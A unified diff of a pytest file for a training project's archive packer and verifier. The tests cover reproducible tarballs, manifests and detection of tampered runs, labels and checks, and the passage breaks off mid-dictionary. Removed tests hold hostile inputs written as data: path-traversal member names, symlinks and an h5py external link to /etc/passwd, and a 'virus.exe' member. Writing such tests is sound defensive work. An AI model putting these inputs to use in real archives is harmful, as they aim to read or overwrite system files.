@@ -1,4 +1,4 @@
-"""Archives: the same content makes the same bytes, and nothing harmful or half is taken for one."""
+"""Archives: the same content makes the same bytes, and nothing changed, harmful or incomplete is taken for one."""
 
 import errno
 import gzip
@@ -6,11 +6,11 @@ import hashlib
 import io
 import json
 import os
-import runpy
+import socket
 import tarfile
-from collections.abc import Callable, Iterator
-from contextlib import contextmanager
-from dataclasses import replace
+import tempfile
+from collections.abc import Callable
+from dataclasses import asdict, replace
 from pathlib import Path
 from typing import Any
 
@@ -18,388 +18,357 @@ import h5py
 import numpy as np
 import pytest
 import yaml
+from rocrate.rocrate import ROCrate
 
-import archive_experiment
-import verify_archive
-from handgrad.archive import reader as archive_reader
-from handgrad.archive.checks import figure_mistakes
-from handgrad.archive.labels import label_mistakes, labels_text
-from handgrad.archive.pack import SUMS, complete_config, parse_sums, sums_text, write_archive
-from handgrad.archive.proof import Contents, other_code
-from handgrad.archive.reader import Unpacked, unpack
+from factories import image_data, trained
+from handgrad.archive import unpack as unpacking
+from handgrad.archive.labels import Labels
+from handgrad.archive.pack import complete_config, members_of, pack, write_archive
 from handgrad.archive.readme import readme
-from handgrad.archive.runs import Made, run_mistakes
+from handgrad.archive.runs import read_run
+from handgrad.archive.tables import tables_again
+from handgrad.cli.app import app
 from handgrad.cli.command import as_command
+from handgrad.common.code_digests import code_digest
 from handgrad.common.errors import HandgradError
 from handgrad.common.sealed import seal
-from handgrad.datasets.data import ImageData, Split, write_data
-from handgrad.experiment.config import load_experiment
+from handgrad.datasets.data import Split, content_of, write_data
+from handgrad.experiment.config import Experiment, load_experiment
 from handgrad.experiment.config_files import merge
 from handgrad.experiment.experiment_file import read_config, read_experiment
 from handgrad.experiment.registry import data_digest
-from handgrad.experiment.runs import Run
+from handgrad.gradient_check.files import check_text, parse_check, write_check
 from handgrad.gradient_check.results import PARTS
-from handgrad.network.activations import ACTIVATIONS, Activation
-from handgrad.network.model import Weights
-from handgrad.storage.run_reader import _plain
+from handgrad.layout.paths import archived_outputs, gates, gradient_checks, run_files
+from handgrad.storage.run_reader import summary_of
 from handgrad.storage.run_writer import content_sha256, write_run
-from handgrad.training.loop import Epoch, Evaluation, State, TrainingResult
 
 ROOT = Path(__file__).parents[2]
-MEMBERS = {"README.md": b"read\n", "results/a.csv": b"1,2\n", "results/runs/b.h5": bytes(2000)}
+RUN = "results/runs/digits/af_tanh_hu_5_lr_0.001_bs_10_ep_2_l2_0.01_seed_0.h5"
+TABLES = "results/tiny/tables"
+GATE = "results/checks/gate/digits_tanh.json"
+LABELS = "labels/digits.json"
+COMPLETE = "config/experiment.yaml"
+
+Members = dict[str, bytes]
+Change = Callable[[Members], object]
 
 
-# --- writing
+@pytest.fixture(scope="module")
+def experiment() -> Experiment:
+    axes = {"activation": "tanh", "hidden_units": 5, "learning_rate": [0.001, 0.002], "batch_size": 10, "epochs": 2}
+    block = {"dataset": "digits", **axes, "l2": 0.01, "seed": 0}
+    small = {"name": "tiny", "experiments": [block]}
+    small["datasets"] = {"digits": {"train": 20, "test": 10, "class_names": ["a", "b", "c"]}}
+    small["gradient_check"] = {"hidden_units": 3, "examples": 2}
+    return load_experiment(merge(read_config([ROOT / "config/quick.yaml"]), small))
 
 
-def test_the_same_content_makes_the_same_bytes(tmp_path: Path) -> None:
-    (tmp_path / "file").write_bytes(MEMBERS["results/a.csv"])
-    os.utime(tmp_path / "file", (5, 5))
-    write_archive(tmp_path / "one.tar.gz", "x", MEMBERS)
-    again = dict(reversed([*MEMBERS.items(), ("results/a.csv", tmp_path / "file")]))
-    write_archive(tmp_path / "two.tar.gz", "x", again)
-    assert (tmp_path / "one.tar.gz").read_bytes() == (tmp_path / "two.tar.gz").read_bytes()
+@pytest.fixture(scope="module")
+def folder(experiment: Experiment, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A project in which the experiment looks finished, without any training."""
+    folder = tmp_path_factory.mktemp("finished")
+    result = trained(experiment.runs[0], classes=3)
+    labels = result.test.predictions.copy()  # type: ignore[union-attr]
+    labels[:3] = (labels[:3] + 1) % 3
+    data = image_data(20, 10, digest=data_digest(experiment.datasets["digits"]))
+    data = replace(data, test=Split(data.test.x, labels))
+    write_data(folder / "results/data/digits.h5", data)
+    digests = {"data_digest": data.digest, "data_content": content_of(data)}
+    for path, run in zip(run_files(experiment), experiment.runs, strict=True):
+        write_run(folder / path, trained(run, classes=3), [], code_digest=code_digest("train_run"), **digests)
+    about = {"dataset": "digits", "activation": "tanh", "passed": True, **digests}
+    write_check(folder / gates(experiment)[0], about | {"code_digest": code_digest("check_gate")})
+    figures = {"max_abs_difference": 1e-9, "max_rel_difference": 1e-12, "worst_entry": [0, 1], "count": 3}
+    part = {**figures, "analytic": 0.5, "numeric": 0.5, "limit": 1e-10}
+    block = {"shape": [5, 7], "entries": 35, "largest_gradient": 0.5, **dict.fromkeys(PARTS, part)}
+    times = dict.fromkeys(("seconds_central", "seconds_complex", "plain_seconds_an_entry", "l2"), 0.5) | {"seed": 0}
+    check = {**about, **asdict(experiment.gradient_check), **times, "blocks": {"W1": block, "W2": block}}
+    checks = dict.fromkeys(gradient_checks(experiment), check | {"code_digest": code_digest("check_gradients")})
+    for path, content in checks.items():
+        write_check(folder / path, content)
+    known = {"digits": Labels(data.digest, digests["data_content"], labels, 3)}
+    runs = [read_run(folder / path, known["digits"], code_digest("train_run")) for path in run_files(experiment)]
+    texts = dict(tables_again(folder, experiment, known, runs, checks))
+    for path in set(archived_outputs(experiment)) - {*run_files(experiment), *gates(experiment), *checks}:
+        (folder / path).parent.mkdir(parents=True, exist_ok=True)
+        (folder / path).write_text(texts.get(path, "a figure or page"))
+    return folder
 
 
-def test_members_are_sorted_and_tell_nothing_of_who_packed_them(tmp_path: Path) -> None:
-    write_archive(tmp_path / "one.tar.gz", "x", MEMBERS)
-    with tarfile.open(tmp_path / "one.tar.gz") as tar:
-        members = tar.getmembers()
-    assert [m.name for m in members] == [f"x/{name}" for name in sorted([*MEMBERS, SUMS])]
-    assert {(m.uid, m.gid, m.uname, m.gname, m.mode, m.mtime) for m in members} == {(0, 0, "", "", 0o644, 315532800)}
-
-
-def test_a_file_that_changes_while_it_is_packed_is_not_packed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    (tmp_path / "file").write_bytes(b"before")
-    monkeypatch.setattr("handgrad.archive.pack.file_sha256", lambda _: "of what was there before")
-    with pytest.raises(HandgradError, match="changed while it was packed"):
-        write_archive(tmp_path / "one.tar.gz", "x", {"a": tmp_path / "file"})
-
-
-def test_a_file_that_is_not_there_is_named(tmp_path: Path) -> None:
-    with pytest.raises(HandgradError, match="gone: cannot be packed"):
-        write_archive(tmp_path / "one.tar.gz", "x", {"a": tmp_path / "gone"})
-
-
-def test_a_manifest_is_read_as_it_is_written() -> None:
-    sums = {"b/c.csv": "1" * 64, "a": "0" * 64}
-    assert sums_text(sums).splitlines()[0] == f"{'0' * 64}  a"
-    assert parse_sums(sums_text(sums)) == (sums, [])
-    twice = f"{'2' * 64}  a"
-    assert parse_sums(f"{sums_text(sums)}{twice}\nnonsense\n") == (sums, [twice, "nonsense"])
-
-
-@pytest.mark.parametrize("shipped", ["config/config.yaml", "config/improved.yaml", "config/quick.yaml"])
-def test_the_complete_file_means_the_same_experiment(shipped: str, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.chdir(ROOT)
-    experiment = read_experiment(Path(shipped))[1]
-    again = load_experiment(yaml.safe_load(complete_config(experiment)), files=False)
-    assert (again.runs, again.gradient_check, again.name) == (
-        experiment.runs,
-        experiment.gradient_check,
-        experiment.name,
-    )
-    assert again.checkpoint_seconds == experiment.checkpoint_seconds
-    for name, entry in again.datasets.items():
-        assert entry == experiment.datasets[name]
-
-
-# --- unpacking
-
-
-def packed(path: Path, add: Callable[[tarfile.TarFile], None]) -> Path:
-    """An archive of MEMBERS and what somebody adds; the manifest lists all files by their names."""
-    with tarfile.open(path, "w:gz") as tar:
-        for name, data in {**MEMBERS, SUMS: sums_text(sums()).encode()}.items():
-            put(tar, f"x/{name}", data)
-        add(tar)
-    return path
-
-
-def sums() -> dict[str, str]:
-    return {name: hashlib.sha256(data).hexdigest() for name, data in MEMBERS.items()}
-
-
-def put(tar: tarfile.TarFile, name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE) -> None:
-    member = tarfile.TarInfo(name)
-    member.size, member.type, member.linkname = len(data), kind, "/etc/passwd"
-    tar.addfile(member, io.BytesIO(data))
-
-
-def unpacked(path: Path) -> Unpacked:
-    to = path.parent / "unpacked"
-    to.mkdir()
-    return unpack(path, to)
-
-
-def everything(folder: Path) -> list[str]:
-    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if not p.is_dir())
-
-
-def test_an_archive_unpacks_to_what_was_packed(tmp_path: Path) -> None:
-    write_archive(tmp_path / "one.tar.gz", "x", MEMBERS)
-    found = unpacked(tmp_path / "one.tar.gz")
-    assert (found.name, found.mistakes) == ("x", [])
-    assert everything(found.folder) == sorted([*MEMBERS, SUMS])
-    assert (found.folder / "results/a.csv").read_bytes() == b"1,2\n"
-
-
-def test_names_of_any_length_are_packed_and_unpacked(tmp_path: Path) -> None:
-    members = {f"results/runs/d/af_{'x' * 200}.h5": b"1"}
-    write_archive(tmp_path / "one.tar.gz", "x", members)
-    assert unpacked(tmp_path / "one.tar.gz").mistakes == []
-
-
-@pytest.mark.parametrize(
-    ("name", "kind", "said"),
-    [
-        ("../x", tarfile.REGTYPE, "'../x': not a name"),
-        ("x/../../y", tarfile.REGTYPE, "'x/../../y': not a name"),
-        ("/etc/x", tarfile.REGTYPE, "'/etc/x': not a name"),
-        ("x/a\x1b[2Jb", tarfile.REGTYPE, r"'x/a\x1b[2Jb': not a name"),
-        ("x/.hidden", tarfile.REGTYPE, "'x/.hidden': not a name"),
-        ("x//a", tarfile.REGTYPE, "'x//a': not a name"),
-        ("y/a", tarfile.REGTYPE, "'y/a': lies outside the folder x/"),
-        ("x/results/A.csv", tarfile.REGTYPE, "'x/results/A.csv': stands there twice"),
-        ("x/link", tarfile.SYMTYPE, "'x/link': is a symbolic link, expected a plain file"),
-        ("x/link", tarfile.LNKTYPE, "'x/link': is a hard link"),
-        ("x/null", tarfile.CHRTYPE, "'x/null': is a device"),
-        ("x/pipe", tarfile.FIFOTYPE, "'x/pipe': is a pipe"),
-        ("x/folder", tarfile.DIRTYPE, "'x/folder': is a folder"),
-        ("x/sparse", tarfile.GNUTYPE_SPARSE, "'x/sparse': is of a special kind"),
-        ("x/virus.exe", tarfile.REGTYPE, "virus.exe: extra, SHA256SUMS does not list it"),
-    ],
-)
-def test_a_strange_member_is_named_and_leaves_nothing_outside(
-    tmp_path: Path, name: str, kind: bytes, said: str
-) -> None:
-    path = packed(tmp_path / "one.tar.gz", lambda tar: put(tar, name, kind=kind))
-    found = unpacked(path)
-    assert len(found.mistakes) == 1
-    assert found.mistakes[0].startswith(said)
-    allowed = {f"unpacked/{member}" for member in (*MEMBERS, SUMS, "virus.exe")}
-    assert set(everything(tmp_path)) <= {"one.tar.gz", *allowed}
-
-
-def test_a_missing_and_a_changed_member_are_named(tmp_path: Path) -> None:
-    with tarfile.open(tmp_path / "one.tar.gz", "w:gz") as tar:
-        put(tar, f"x/{SUMS}", sums_text(sums()).encode())
-        put(tar, "x/README.md", b"another\n")
-        put(tar, "x/results/runs/b.h5", MEMBERS["results/runs/b.h5"])
-    missing, changed = unpacked(tmp_path / "one.tar.gz").mistakes
-    assert missing == "results/a.csv: missing, SHA256SUMS lists it"
-    assert changed.startswith("README.md: its sha256 is ")
-    assert changed.endswith(f"SHA256SUMS has {sums()['README.md']}")
-
-
-def test_without_a_manifest_nothing_is_proved(tmp_path: Path) -> None:
-    with tarfile.open(tmp_path / "one.tar.gz", "w:gz") as tar:
-        put(tar, "x/README.md")
-    assert unpacked(tmp_path / "one.tar.gz").mistakes == ["SHA256SUMS: missing, so nothing can be held against it"]
-
-
-def test_an_archive_cut_off_anywhere_is_found_out(tmp_path: Path) -> None:
-    write_archive(tmp_path / "whole.tar.gz", "x", {**MEMBERS, "noise": os.urandom(3000)})
-    whole = (tmp_path / "whole.tar.gz").read_bytes()
-    for length in (0, 5, 100, 1000, len(whole) // 2, len(whole) - 9, len(whole) - 1):
-        path = tmp_path / f"{length}.tar.gz"
-        path.write_bytes(whole[:length])
-        with pytest.raises(HandgradError, match=rf"{length}\.tar\.gz: (cut off|not a \.tar\.gz)"):
-            unpack(path, tmp_path / str(length))
-
-
-def test_an_archive_with_a_flipped_bit_is_found_out(tmp_path: Path) -> None:
-    write_archive(tmp_path / "whole.tar.gz", "x", {**MEMBERS, "noise": os.urandom(3000)})
-    whole = bytearray((tmp_path / "whole.tar.gz").read_bytes())
-    whole[len(whole) // 2] ^= 4
-    (tmp_path / "flipped.tar.gz").write_bytes(whole)
-    with pytest.raises(HandgradError, match=r"flipped\.tar\.gz: "):
-        unpack(tmp_path / "flipped.tar.gz", tmp_path / "to")
-
-
-def test_what_follows_the_last_member_is_named(tmp_path: Path) -> None:
-    write_archive(tmp_path / "one.tar.gz", "x", MEMBERS)
-    hidden = io.BytesIO()
-    with tarfile.open(fileobj=hidden, mode="w") as tar:
-        put(tar, "x/hidden", b"unseen")
-    with (tmp_path / "one.tar.gz").open("ab") as file:
-        file.write(gzip.compress(hidden.getvalue()))
-    assert unpacked(tmp_path / "one.tar.gz").mistakes == ["something follows the last member, expected nothing"]
-
-
-def test_what_is_no_archive_is_named(tmp_path: Path) -> None:
-    (tmp_path / "one.tar.gz").write_text("hello")
-    with pytest.raises(HandgradError, match=r"not a \.tar\.gz"):
-        unpacked(tmp_path / "one.tar.gz")
-    with pytest.raises(HandgradError, match=r"gone: cannot be read \(No such file"):
-        unpack(tmp_path / "gone", tmp_path)
-
-
-def test_an_archive_that_unpacks_to_far_more_than_its_size_is_not_read_on(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setattr(archive_reader, "ALWAYS_ALLOWED", 100_000)
-    write_archive(tmp_path / "one.tar.gz", "x", {"zeros": bytes(5_000_000)})
-    with pytest.raises(HandgradError, match="unpacks to more than"):
-        unpacked(tmp_path / "one.tar.gz")
-    assert sum(path.stat().st_size for path in (tmp_path / "unpacked").rglob("*")) < 5_000_000
-
-
-# --- labels
+@pytest.fixture(scope="module")
+def _members(experiment: Experiment, folder: Path) -> Members:
+    members = members_of(experiment, ROOT / "config/quick.yaml", folder)
+    return {name: content if isinstance(content, bytes) else content.read_bytes() for name, content in members.items()}
 
 
 @pytest.fixture
-def entry(monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
-    monkeypatch.chdir(ROOT)
-    config = read_config([Path("config/quick.yaml")])
-    small = {"datasets": {"digits": {"train": 50, "test": 4, "class_names": ["a", "b", "c"]}}}
-    return dict(load_experiment(merge(config, small)).datasets["digits"])
+def members(_members: Members) -> Members:
+    """The payload of an archive."""
+    return dict(_members)
 
 
-def labels(tmp_path: Path, entry: dict[str, Any]) -> dict[str, Any]:
-    split = [Split(np.zeros((n, 64), np.uint8), np.arange(n, dtype=np.uint8) % 3) for n in (50, 4)]
-    files = {file["name"]: file["sha256"] for file in entry["files"].values()}
-    data = ImageData(*split, (8, 8), 16, tuple(entry["class_names"]), files, data_digest(entry))
-    write_data(tmp_path / "digits.h5", data)
-    content = json.loads(labels_text(tmp_path / "digits.h5", entry))
-    assert content["test_labels"] == [0, 1, 2, 0]
-    return dict(content)
+@pytest.fixture
+def archive(members: Members, tmp_path: Path) -> Path:
+    write_archive(tmp_path / "t.tar.gz", "tiny", members)
+    return tmp_path / "t.tar.gz"
 
 
-def test_what_an_archive_tells_of_a_dataset_is_right(tmp_path: Path, entry: dict[str, Any]) -> None:
-    assert list(label_mistakes(labels(tmp_path, entry), entry)) == []
+@pytest.fixture
+def verified(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Callable[[Path], list[str]]:
+    """Verify an archive, which must fail, and return the lines that say why."""
+
+    def verify(path: Path) -> list[str]:
+        with pytest.raises(SystemExit) as ended, as_command():
+            app(["verify", str(path)], standalone_mode=False)
+        out, err = capsys.readouterr()
+        assert (ended.value.code, out) == (1, "")
+        assert all(line.startswith(f"{path}: ") for line in err.splitlines())
+        return [line.removeprefix(f"{path}: ") for line in err.splitlines()]
+
+    return verify
 
 
-@pytest.mark.parametrize(
-    ("change", "said"),
-    [
-        ({"test_labels": [0, 1, 2, 3]}, "test_labels are not all from 0 to 2"),
-        ({"test_labels": [0, 1, 2, True]}, "test_labels are not all from 0 to 2"),
-        ({"test_labels": [0, 1, 2]}, "test_labels are not the 4 labels of the test images"),
-        ({"source_sha256": {}}, "source_sha256 is '{}', expected "),
-        ({"data_digest": "0"}, "data_digest is '0', expected "),
-        ({"class_names": ["a"]}, "class_names is "),
-    ],
-)
-def test_labels_that_are_not_the_datasets_are_named(
-    tmp_path: Path, entry: dict[str, Any], change: dict[str, Any], said: str
+# --- what is packed
+
+
+def test_an_archive_is_verified(archive: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    app(["verify", str(archive)], standalone_mode=False)
+    out, err = capsys.readouterr()
+    assert err == ""
+    assert hashlib.sha256(archive.read_bytes()).hexdigest() in out
+
+
+def test_the_same_content_makes_the_same_bytes(archive: Path, members: Members, tmp_path: Path) -> None:
+    write_archive(tmp_path / "again.tar.gz", "tiny", dict(reversed(members.items())))
+    assert (tmp_path / "again.tar.gz").read_bytes() == archive.read_bytes()
+    with tarfile.open(archive) as tar:
+        about = {(m.uid, m.gid, m.uname, m.gname, m.mode, m.mtime) for m in tar}
+        tags = tar.extractfile("tiny/tagmanifest-sha256.txt").read().splitlines()  # type: ignore[union-attr]
+    assert tags == sorted(tags)  # and not in the order of the file system
+    assert all(line[64:66] == b"  " for line in tags)  # as sha256sum takes it
+    assert about == {(0, 0, "", "", 0o644, 315532800)}
+
+
+def test_other_programs_read_the_crate_and_need_no_network(
+    members: Members, experiment: Experiment, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    (mistake,) = list(label_mistakes({**labels(tmp_path, entry), **change}, entry))
-    assert mistake.startswith(said)
+    monkeypatch.setattr(socket, "getaddrinfo", no_room)
+    crate = ROCrate(json.loads(members["ro-crate-metadata.json"]))
+    assert {entity.id for entity in crate.get_by_type("File")} == set(members) - {"ro-crate-metadata.json"}
+    assert "ComputationalWorkflow" in crate.mainEntity.type
+    whole, *runs = crate.root_dataset["mentions"]
+    assert whole["instrument"] == crate.mainEntity
+    assert [action["result"].id for action in runs] == run_files(experiment)
+    assert all(action["startTime"] <= action["endTime"] for action in (whole, *runs))
 
 
-# --- runs
-
-RUN = Run(
-    dataset="digits",
-    activation="tanh",
-    hidden_units=2,
-    learning_rate=0.001,
-    batch_size=10,
-    epochs=2,
-    l2=0.01,
-    seed=3,
-)
-Y = np.array([[0.9, 0.1], [0.2, 0.8], [0.7, 0.3]], np.float32)
-MADE = Made("code", "data", np.array([0, 1, 1], np.uint8), 2, "content")
+@pytest.mark.parametrize("name", ["config", "improved", "quick"])
+def test_the_complete_file_means_the_same_experiment(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(ROOT)
+    experiment = read_experiment(Path(f"config/{name}.yaml"))[1]
+    again = load_experiment(yaml.safe_load(complete_config(experiment)), files=False)
+    for field in ("runs", "gradient_check", "name", "checkpoint_seconds"):
+        assert getattr(again, field) == getattr(experiment, field)
+    assert again.datasets.items() <= experiment.datasets.items()
 
 
-def run_file(path: Path, **changes: Any) -> Path:
-    W = Weights(np.arange(6, dtype=np.float32).reshape(2, 3), np.ones((2, 3), np.float32))
-    history = [Epoch(-1.0, 0.2, 0.7, faults, np.nan, -1, 0.5) for faults in (2, 1)]
-    test = Evaluation(0.5, 1, Y.argmax(axis=1).astype(np.uint8), Y)
-    whole = TrainingResult(RUN, "finished", State(W, history), test, train_examples=20, test_examples=3)
-    write_run(path, replace(whole, **changes), [], code_digest="code", data_digest="data", data_content="content")
-    return path
+@pytest.mark.parametrize(("revision", "committed"), [("a704b42f" * 5, True), ("a704b42f, changed", False)])
+def test_the_readme_checks_out_only_what_was_committed(
+    experiment: Experiment, revision: str, *, committed: bool
+) -> None:
+    text = readme(experiment, revision)
+    assert revision in text
+    assert ("git checkout" in text) is committed
 
 
-def test_a_run_as_it_was_written_has_nothing_wrong(tmp_path: Path) -> None:
-    assert list(run_mistakes(run_file(tmp_path / "run.h5"), RUN, MADE)) == []
+# --- what was changed by somebody who also wrote a manifest that fits
 
 
-def test_a_run_that_diverged_has_nothing_wrong(tmp_path: Path) -> None:
-    path = run_file(tmp_path / "run.h5", status="diverged", test=None)
-    assert list(run_mistakes(path, RUN, MADE)) == []
+def edit_json(name: str, change: Callable[[dict[str, Any]], object]) -> Change:
+    def edit(members: Members) -> None:
+        content = json.loads(members[name])
+        change(content)
+        members[name] = json.dumps(content).encode()
+
+    return edit
 
 
-@pytest.mark.parametrize(
-    ("run", "made", "said"),
-    [
-        (replace(RUN, seed=4), MADE, "the run is digits/af_tanh"),
-        (RUN, replace(MADE, code="other"), "code_digest is code, expected other"),
-        (RUN, replace(MADE, data="other"), "data_digest is data, expected other"),
-        (RUN, replace(MADE, content="other"), "data_content is content, expected other"),
-        (RUN, replace(MADE, labels=np.zeros(3, np.uint8)), "on the test labels"),
-        (RUN, replace(MADE, labels=np.zeros(4, np.uint8)), "test_examples is 3, expected 4"),
-    ],
-)
-def test_a_run_that_is_another_is_named(tmp_path: Path, run: Run, made: Made, said: str) -> None:
-    if "on the test labels" in said:
-        made = replace(made, labels=np.array([1, 1, 1], np.uint8))
-    (mistake,) = list(run_mistakes(run_file(tmp_path / "run.h5"), run, made))
-    assert said in mistake
+def edit_check(name: str, change: Callable[[dict[str, Any]], object]) -> Change:
+    """Change a check, with a checksum in it that fits."""
+
+    def edit(members: Members) -> None:
+        path = next(path for path in members if path.startswith(name))
+        content = parse_check(members[path], path)
+        change(content)
+        members[path] = check_text(content).encode()
+
+    return edit
 
 
-def replaced(file: h5py.File, name: str, content: Any, *, rehash: bool) -> None:
-    del file[name]
-    file[name] = content
-    if rehash:
-        names = [f"{g}/{n}" for g in file for n in file[g]]
-        facts = {key: _plain(value) for key, value in file.attrs.items()}
-        file.attrs["content_sha256"] = content_sha256({n: file[n][:] for n in names}, facts)
+def edit_run(change: Callable[[h5py.File], object], *, rehash: bool = False, reseal: bool = True) -> Change:
+    """Change a run; rehash: its content_sha256 fits; reseal: so does the checksum of its file."""
+
+    def edit(members: Members) -> None:
+        content = io.BytesIO(members[RUN])
+        with h5py.File(content, "r+") as file:
+            change(file)
+            if rehash:
+                arrays = {f"{group}/{name}": file[group][name][:] for group in file for name in file[group]}
+                attributes = summary_of(RUN, type("Open", (), {"file": file, "seal": ""})()).attributes
+                file.attrs["content_sha256"] = content_sha256(arrays, attributes)
+        members[RUN] = content.getvalue()
+        if reseal:
+            members[RUN] = sealed(members[RUN])
+
+    return edit
 
 
-@contextmanager
-def changed(path: Path) -> Iterator[h5py.File]:
-    """Change a file, as somebody would who also writes a seal that fits."""
-    with h5py.File(path, "r+", locking=False) as file:
-        yield file
-    seal(path)
+def sealed(content: bytes) -> bytes:
+    with tempfile.NamedTemporaryFile() as file:
+        Path(file.name).write_bytes(content)
+        seal(Path(file.name))
+        return Path(file.name).read_bytes()
 
 
-@pytest.mark.parametrize(
-    ("name", "content", "rehash", "said"),
-    [
-        ("test/predictions", np.array([0, 1, 1], np.uint8), False, "content_sha256 is "),
-        ("weights/W1", np.ones((2, 3), np.float32), False, "content_sha256 is "),
-        ("history/test_loss", np.array([0.7, 0.6]), False, "content_sha256 is "),
-        ("test/predictions", np.array([0, 0, 1], np.uint8), True, "test/probabilities has another largest"),
-        ("test/predictions", np.array([0, 1, 7], np.uint8), True, "has the class 7, expected 0 to 1"),
-        ("test/predictions", np.array([0, 1], np.uint8), True, "have the shapes (2,) and (3, 2)"),
-        ("test/predictions", np.array([0.0, 1, 1]), True, "is float64, expected uint8"),
-        (
-            "history/test_faults",
-            np.array([2, 0]),
-            True,
-            "give 1 faults on the test labels, its history has 0",
-        ),
-        ("weights/W1", "text", False, "weights/W1 is not an array of numbers"),
-        ("weights/W3", np.ones(3), False, "holds weights/W3, which no run does"),
-    ],
-)
-def test_a_tampered_run_is_named(tmp_path: Path, name: str, content: Any, said: str, *, rehash: bool) -> None:
-    path = run_file(tmp_path / "run.h5")
-    with changed(path) as file:
-        if name not in file:
-            file[name] = content
-        else:
-            replaced(file, name, content, rehash=rehash)
-    (mistake,) = list(run_mistakes(path, RUN, MADE))
-    assert said in mistake
+def put(name: str, value: Any) -> Callable[[h5py.File], object]:
+    def change(file: h5py.File) -> None:
+        if name in file:
+            del file[name]
+        file[name] = value
+
+    return change
 
 
-def test_the_epochs_of_a_run_are_counted(tmp_path: Path) -> None:
-    path = run_file(tmp_path / "run.h5")
-    with changed(path) as file:
-        for name in list(file["history"]):
-            replaced(file, f"history/{name}", file[f"history/{name}"][:1], rehash=True)
-        file["history/test_faults"][0] = 1
-        replaced(file, "history/test_loss", [0.7], rehash=True)
-    assert next(iter(run_mistakes(path, RUN, MADE))) == "its epochs is 1 (finished), expected 2 (finished)"
+def next_class(file: h5py.File) -> None:
+    file["test/predictions"][3] = (file["test/predictions"][3] + 1) % 3
 
 
-def external_link(file: h5py.File) -> None:
-    file["weights/W1"] = h5py.ExternalLink("/etc/passwd", "/")
+def leave_out_a_run(members: Members) -> None:
+    config = yaml.safe_load(members[COMPLETE])
+    config["experiments"][0]["learning_rate"] = [0.002]
+    members[COMPLETE] = yaml.safe_dump(config).encode()
+
+
+def replace_bytes(name: str, old: bytes, new: bytes) -> Change:
+    def edit(members: Members) -> None:
+        assert old in members[name]
+        members[name] = members[name].replace(old, new)
+
+    return edit
+
+
+CHANGES: dict[str, tuple[Change, str]] = {
+    "a number in a table": (replace_bytes(f"{TABLES}/results.csv", b",0.7,", b",0.8,"), "results.csv: line 2 is"),
+    "results.md": (replace_bytes(f"{TABLES}/results.md", b"70.00", b"71.00"), "results.md: line 3 is"),
+    "seeds.csv": (lambda members: members.update({f"{TABLES}/seeds.csv": b""}), "seeds.csv: line 1 is"),
+    "best.html": (replace_bytes(f"{TABLES}/best.html", b"</table>", b""), "best.html: line"),
+    "a line more": (replace_bytes(f"{TABLES}/gradient_checks.csv", b"tanh", b"tanh\n"), "gradient_checks.csv: line"),
+    "a prediction": (edit_run(next_class), f"{RUN}: its content_sha256: "),
+    "a prediction, rehashed": (edit_run(next_class, rehash=True), "predictions give"),
+    "predictions and history": (
+        edit_run(lambda file: (next_class(file), put("history/test_faults", [4, 4])(file)), rehash=True),
+        "test/probabilities has its maximum at another class",
+    ),
+    "a run's file": (edit_run(next_class, reseal=False), f"{RUN}: damaged, or changed"),
+    "a weight": (edit_run(lambda file: file["weights/W1"].write_direct(np.ones((5, 7), "f4"))), "content_sha256: "),
+    "a loss": (edit_run(lambda file: put("history/test_loss", [0.1, 0.1])(file)), "its content_sha256: "),
+    "a loss, rehashed": (edit_run(put("history/test_loss", [0.1, 0.1]), rehash=True), "results.csv: line 2 is"),
+    "an epoch less": (edit_run(put("history/test_loss", [0.7]), rehash=True), "its epochs: 1, expected 2"),
+    "predictions of another shape": (edit_run(put("test/predictions", [0, 1]), rehash=True), "predictions give None"),
+    "a run of other code": (
+        edit_run(lambda file: file.attrs.update(code_digest="other")),
+        "the code of training is other, expected ",
+    ),
+    "a run of other data": (edit_run(lambda file: file.attrs.update(data_content="other")), "the content of the data"),
+    "another run": (edit_run(lambda file: file.attrs.update(seed=4), rehash=True), "the run is digits/af_tanh"),
+    "the code that trained": (
+        edit_json("provenance.json", lambda facts: facts["code"].update(train_run="0" * 16)),
+        f"expected {'0' * 16}",
+    ),
+    "a label": (
+        edit_json(LABELS, lambda facts: facts.update(test_labels=[2 - n for n in facts["test_labels"]])),
+        "its history has 3",
+    ),
+    "an impossible label": (
+        edit_json(LABELS, lambda facts: facts["test_labels"].__setitem__(0, 3)),
+        f"{LABELS}: test_labels are not all from 0 to 2",
+    ),
+    "a label less": (edit_json(LABELS, lambda facts: facts["test_labels"].pop()), "not the 10 labels"),
+    "another source": (edit_json(LABELS, lambda facts: facts.update(source_sha256={})), "source_sha256 is '{}'"),
+    "a figure of a check": (
+        edit_check("results/checks/grad", lambda check: check["blocks"]["W2"]["step"].update(max_rel_difference=0.5)),
+        "W2, training's step: the relative difference is 0.5",
+    ),
+    "a limit of a check": (
+        edit_check("results/checks/grad", lambda check: check["blocks"]["W1"]["central"].update(limit=1)),
+        "expected a limit of at most 0.001",
+    ),
+    "a part of a check": (
+        edit_check("results/checks/grad", lambda check: check["blocks"]["W1"].update(complex=None)),
+        "its limit null",
+    ),
+    "a block of a check": (
+        edit_check("results/checks/grad", lambda check: check["blocks"].pop("W1")),
+        "not as this workflow writes it (KeyError",
+    ),
+    "a nan in a check": (
+        edit_check("results/checks/grad", lambda check: check["blocks"]["W1"]["samples"].update(limit=float("nan"))),
+        "W1, ",
+    ),
+    "a figure that the table needs": (
+        edit_check("results/checks/grad", lambda check: check.pop("seconds_central")),
+        "no seconds_central",
+    ),
+    "a figure that no table takes": (
+        edit_check("results/checks/grad", lambda check: check["blocks"]["W1"].update(entries=[[[]]])),
+        "tables: not as this workflow writes it",
+    ),
+    "a verdict": (edit_check("results/checks/gate", lambda gate: gate.update(passed=False)), "its passed is False"),
+    "a verdict's text": (replace_bytes(GATE, b'"passed": true', b'"passed": false'), f"{GATE}: not a check as"),
+    "a gate of other code": (edit_check(GATE, lambda gate: gate.update(code_digest="other")), "its code_digest is"),
+    "a gate of other data": (edit_check(GATE, lambda gate: gate.update(data_content="other")), "its data_content is"),
